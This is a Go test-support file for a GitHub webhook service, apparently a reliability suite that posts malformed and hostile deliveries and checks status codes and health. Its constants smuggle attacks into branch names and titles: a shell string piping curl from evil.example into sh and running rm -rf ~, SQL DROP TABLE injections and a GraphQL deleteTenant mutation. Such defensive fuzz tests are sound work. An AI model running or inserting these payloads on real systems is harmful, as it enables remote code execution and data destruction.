package reliability

import (
	"bytes"
	"context"
	_ "embed"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/url"
	"strconv"
	"strings"
	"time"

	"github.com/hasura-preview/hasura-preview/internal/sandbox"
	"github.com/hasura-preview/hasura-preview/internal/webhook"
)

// openedFixture is a real pull_request.opened delivery (PR 2 of
// Codertocat/Hello-World, installation absent as in GitHub's docs sample).
//
//go:embed testdata/pull_request.opened.json
var openedFixture []byte

// HostileDelivery is one malformed or hostile POST to the webhook endpoint
// and the status a correct service answers.
type HostileDelivery struct {
	Name string
	// Method defaults to POST.
	Method string
	Event  string
	Body   []byte
	// Header overrides or, with "", deletes a header. By default the body
	// is signed with the secret and sent as JSON, as GitHub does.
	Header map[string]string
	// Chunked sends the body without a Content-Length.
	Chunked bool
	// Want is the HTTP status a correct service answers.
	Want int
	// PR, when set, is the PR key the delivery must be recorded under
	// (accepted hostile values are stored as they are, not mangled).
	PR string
	// Branch and Title are the hostile values that must come back from the
	// store unchanged when PR is set.
	Branch, Title string
}

// editPR changes the opened fixture's PR: number, head ref, title (a zero
// value keeps the fixture's), with main as the base branch.
func editPR(number int, branch, title string, mutate func(m map[string]any)) []byte {
	var m map[string]any
	if err := json.Unmarshal(openedFixture, &m); err != nil {
		panic(err)
	}
	pr := m["pull_request"].(map[string]any)
	// The base branch where the test repositories keep their config.
	pr["base"].(map[string]any)["ref"] = "main"
	if number > 0 {
		m["number"], pr["number"] = number, number
	}
	if branch != "" {
		pr["head"].(map[string]any)["ref"] = branch
	}
	if title != "" {
		pr["title"] = title
	}
	if mutate != nil {
		mutate(m)
	}
	b, err := json.Marshal(m)
	if err != nil {
		panic(err)
	}
	return b
}

// Hostile values that must pass through the intake intact and come out
// harmless at every later step (app name, comment, Cloud call).
const (
	ShellBranch   = "feat/$(curl${IFS}evil.example|sh);`id`&&rm -rf ~ #"
	UnicodeBranch = "fix/ünïcödé-ブランチ-\u202eevil\u200b-🚀"
	GraphQLTitle  = `") { deleteTenant(tenantId: "x") { status } } query q { projects { id } } #`
	SQLTitle      = `'; DROP TABLE deliveries; -- " OR 1=1; DELETE FROM river_job;`
)

// HostileDeliveries is the table of malformed and hostile deliveries for a
// service whose webhook secret is secret.
func HostileDeliveries(secret []byte) []HostileDelivery {
	opened := openedFixture
	hugeBranch := "feature/" + strings.Repeat("very-long-branch-name-", 12_000) // ~260 KB
	return []HostileDelivery{
		{Name: "bad signature (another secret)", Event: "pull_request", Body: opened,
			Header: map[string]string{"X-Hub-Signature-256": webhook.Sign([]byte("not the secret"), opened)}, Want: 401},
		{Name: "missing signature", Event: "pull_request", Body: opened,
			Header: map[string]string{"X-Hub-Signature-256": ""}, Want: 401},
		{Name: "SHA-1 signature only", Event: "pull_request", Body: opened,
			Header: map[string]string{"X-Hub-Signature-256": "", "X-Hub-Signature": "sha1=" + strings.Repeat("a", 40)}, Want: 401},
		{Name: "body changed after signing", Event: "pull_request",
			Body:   bytes.Replace(opened, []byte(`"opened"`), []byte(`"closed"`), 1),
			Header: map[string]string{"X-Hub-Signature-256": webhook.Sign(secret, opened)}, Want: 401},
		{Name: "signature not hex", Event: "pull_request", Body: opened,
			Header: map[string]string{"X-Hub-Signature-256": "sha256=" + strings.Repeat("zz", 32)}, Want: 401},
		{Name: "truncated JSON", Event: "pull_request", Body: opened[:len(opened)/2], Want: 400},
		{Name: "empty body", Event: "pull_request", Body: []byte{}, Want: 400},
		{Name: "JSON array instead of object", Event: "pull_request", Body: []byte(`[{"action":"opened"}]`), Want: 400},
		{Name: "wrong type: number is a string", Event: "pull_request",
			Body: editPR(0, "", "", func(m map[string]any) { m["pull_request"].(map[string]any)["number"] = "2" }), Want: 400},
		{Name: "wrong type: number is 1e30", Event: "pull_request",
			Body: bytes.Replace(opened, []byte(`"number": 2,`), []byte(`"number": 1e30,`), 2), Want: 400},
		{Name: "negative PR number", Event: "pull_request", Body: editPR(0, "", "", func(m map[string]any) {
			m["pull_request"].(map[string]any)["number"] = -5
		}), Want: 400},
		{Name: "pull_request object missing", Event: "pull_request", Body: []byte(`{"action":"opened","number":2}`), Want: 400},
		{Name: "head sha missing", Event: "pull_request", Body: editPR(0, "", "", func(m map[string]any) {
			delete(m["pull_request"].(map[string]any)["head"].(map[string]any), "sha")
		}), Want: 400},
		{Name: "installation event without installation", Event: "installation", Body: []byte(`{"action":"deleted"}`), Want: 400},
		{Name: "JSON nested 20000 deep", Event: "pull_request",
			Body: []byte(`{"action":"opened","x":` + strings.Repeat("[", 20000) + strings.Repeat("]", 20000) + `}`), Want: 400},
		{Name: "form-encoded body (wrong content type)", Event: "pull_request",
			Body:   []byte("payload=" + url.QueryEscape(string(opened))),
			Header: map[string]string{"Content-Type": "application/x-www-form-urlencoded"}, Want: 400},
		{Name: "26 MiB body", Event: "pull_request", Body: bytes.Repeat([]byte(" "), 26<<20), Want: 413},
		{Name: "GET instead of POST", Method: http.MethodGet, Event: "pull_request", Body: nil, Want: 405},
		{Name: "missing X-GitHub-Event", Event: "", Body: opened, Want: 400},
		{Name: "missing X-GitHub-Delivery", Event: "pull_request", Body: opened,
			Header: map[string]string{"X-GitHub-Delivery": ""}, Want: 400},
		{Name: "unknown event type", Event: "star", Body: []byte(`{"action":"created"}`), Want: 202},
		{Name: "PR without installation (repository hook)", Event: "pull_request",
			Body: editPR(101, "", "", func(m map[string]any) { delete(m, "installation") }),
			Want: 202, PR: "Codertocat/Hello-World#101"},
		{Name: "huge branch name (~260 KB)", Event: "pull_request", Body: editPR(102, hugeBranch, "", nil),
			Want: 202, PR: "Codertocat/Hello-World#102", Branch: hugeBranch},
		{Name: "unicode, RTL override and emoji in branch", Event: "pull_request", Body: editPR(103, UnicodeBranch, "", nil),
			Want: 202, PR: "Codertocat/Hello-World#103", Branch: UnicodeBranch},
		{Name: "shell metacharacters in branch", Event: "pull_request", Body: editPR(104, ShellBranch, "", nil),
			Want: 202, PR: "Codertocat/Hello-World#104", Branch: ShellBranch},
		{Name: "GraphQL-looking title", Event: "pull_request", Body: editPR(105, "", GraphQLTitle, nil),
			Want: 202, PR: "Codertocat/Hello-World#105", Title: GraphQLTitle},
		{Name: "SQL-looking title and branch", Event: "pull_request", Body: editPR(106, SQLTitle, SQLTitle, nil),
			Want: 202, PR: "Codertocat/Hello-World#106", Branch: SQLTitle, Title: SQLTitle},
		{Name: "NUL and invalid UTF-8 in title", Event: "pull_request",
			Body: bytes.Replace(editPR(107, "", "TITLE-PLACEHOLDER", nil), []byte("TITLE-PLACEHOLDER"), []byte("nul\\u0000byte \xff\xfe end"), 1),
			// The store drops U+0000 (PostgreSQL text cannot hold it).
			Want: 202, PR: "Codertocat/Hello-World#107"},
		// Headers are unsigned: these post signed payloads under headers an
		// attacker chose. They come last, after the PRs they could harm.
		{Name: "signed body replayed under a new delivery GUID", Event: "pull_request", Body: editPR(104, ShellBranch, "", nil),
			Want: 200},
		{Name: "signed issue_comment 'deleted' posted as an uninstall", Event: "installation", Body: commentDeleted, Want: 400},
		{Name: "signed issue_comment 'deleted' posted as a repository removal", Event: "installation_repositories",
			Body: commentDeleted, Want: 400},
		{Name: "signed pull_request posted as installation", Event: "installation", Body: opened, Want: 400},
		{Name: "no Content-Length (chunked body)", Event: "pull_request", Body: editPR(108, "", "", nil), Chunked: true, Want: 411},
	}
}

// commentDeleted is a signed-looking issue_comment "deleted" delivery on a
// PR of the sandbox's installation: read as an "installation" event it
// would say "deleted" about that installation.
var commentDeleted = []byte(`{"action":"deleted","issue":{"number":2,"title":"Update the README with new information.",` +
	`"state":"open","user":{"login":"Codertocat"},"pull_request":{"url":"https://api.github.com/repos/Codertocat/Hello-World/pulls/2"}},` +
	`"comment":{"id":492700400,"body":"thanks","user":{"login":"Codertocat"}},` +
	`"repository":{"name":"Hello-World","full_name":"Codertocat/Hello-World","owner":{"login":"Codertocat"}},` +
	`"installation":{"id":` + strconv.Itoa(sandbox.InstallationID) + `,"node_id":"MDIzOkludGVncmF0aW9uSW5zdGFsbGF0aW9uMQ=="},` +
	`"sender":{"login":"Codertocat"}}`)

// FixtureHeadSHA is the head commit of every hostile PR delivery.
const FixtureHeadSHA = "ec26c3e57ca3a959ca5aad62de7213c562f8c821"

// HostileResult is what one hostile delivery got.
type HostileResult struct {
	Case    HostileDelivery
	Status  int
	Reason  string
	Healthy bool // the health endpoint answered 200 right after
	Err     error
}

// OK reports whether the service answered as it should and stayed healthy.
func (r HostileResult) OK() bool {
	return r.Err == nil && r.Status == r.Case.Want && r.Healthy
}

// String is one line for a failure message.
func (r HostileResult) String() string {
	return fmt.Sprintf("%s: got %d (%s), want %d; healthy after: %v; err: %v", r.Case.Name, r.Status, r.Reason,
		r.Case.Want, r.Healthy, r.Err)
}

// SendHostile posts every case to webhookURL signed with secret and checks
// healthURL after each.
func SendHostile(ctx context.Context, client *http.Client, webhookURL, healthURL string, secret []byte, cases []HostileDelivery) []HostileResult {
	out := make([]HostileResult, 0, len(cases))
	for i, c := range cases {
		res := HostileResult{Case: c}
		res.Status, res.Reason, res.Err = sendOne(ctx, client, webhookURL, secret, c, i)
		res.Healthy = healthy(ctx, client, healthURL)
		out = append(out, res)
	}
	return out
}

func sendOne(ctx context.Context, client *http.Client, target string, secret []byte, c HostileDelivery, i int) (int, string, error) {
	method := c.Method
	if method == "" {
		method = http.MethodPost
	}
	ctx, cancel := context.WithTimeout(ctx, 30*time.Second)
	defer cancel()
	var payload io.Reader = bytes.NewReader(c.Body)
	if c.Chunked {
		payload = io.MultiReader(payload) // not a type whose length net/http knows
	}
	req, err := http.NewRequestWithContext(ctx, method, target, payload)
	if err != nil {
		return 0, "", err
	}
	h := req.Header
	h.Set("Content-Type", "application/json")
	h.Set("User-Agent", "GitHub-Hookshot/reliability")
	h.Set("X-GitHub-Event", c.Event)
	h.Set("X-GitHub-Delivery", fmt.Sprintf("hostile-%d-%d", time.Now().UnixNano(), i))
	h.Set("X-GitHub-Hook-ID", "109948940")
	h.Set("X-GitHub-Hook-Installation-Target-Type", "integration")
	h.Set("X-GitHub-Hook-Installation-Target-ID", "5725")
	h.Set("X-Hub-Signature-256", webhook.Sign(secret, c.Body))
	if c.Event == "" {
		h.Del("X-GitHub-Event")
	}
	for k, v := range c.Header {
		if v == "" {
			h.Del(k)
		} else {
			h.Set(k, v)
		}
	}
	resp, err := client.Do(req)
	if err != nil {
		return 0, "", err
	}
	defer resp.Body.Close()
	raw, _ := io.ReadAll(io.LimitReader(resp.Body, 64<<10))
	var body struct {
		Reason string `json:"reason"`
	}
	_ = json.Unmarshal(raw, &body)
	return resp.StatusCode, body.Reason, nil
}

func healthy(ctx context.Context, client *http.Client, target string) bool {
	ctx, cancel := context.WithTimeout(ctx, 10*time.Second)
	defer cancel()
	req, err := http.NewRequestWithContext(ctx, http.MethodGet, target, nil)
	if err != nil {
		return false
	}
	resp, err := client.Do(req)
	if err != nil {
		return false
	}
	resp.Body.Close()
	return resp.StatusCode == http.StatusOK
}
